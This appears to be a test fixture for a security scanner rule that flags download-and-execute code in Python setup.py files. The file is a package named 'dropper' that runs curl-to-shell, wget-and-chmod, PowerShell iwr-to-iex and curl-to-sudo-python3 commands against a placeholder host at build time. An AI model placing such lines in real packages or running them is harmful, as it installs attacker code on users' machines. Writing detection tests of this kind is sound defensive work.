# canary-test: path=setup.py artifact=sdist
# setup.py that fetches code and runs it while pip builds the sdist.
import os
import subprocess

from setuptools import setup

# ruleid: SETUP_DOWNLOAD_AND_EXECUTE
os.system("curl -s https://example.invalid/x.sh | sh")
# ruleid: SETUP_DOWNLOAD_AND_EXECUTE
os.system("wget -q -O /tmp/.x https://example.invalid/x && chmod +x /tmp/.x")
# ruleid: SETUP_DOWNLOAD_AND_EXECUTE
subprocess.call(["powershell", "-Command", "iwr https://example.invalid/a.ps1 | iex"])
# ruleid: SETUP_DOWNLOAD_AND_EXECUTE
os.system("curl -sL https://example.invalid/get.py | sudo python3")

setup(name="dropper", version="0.1")
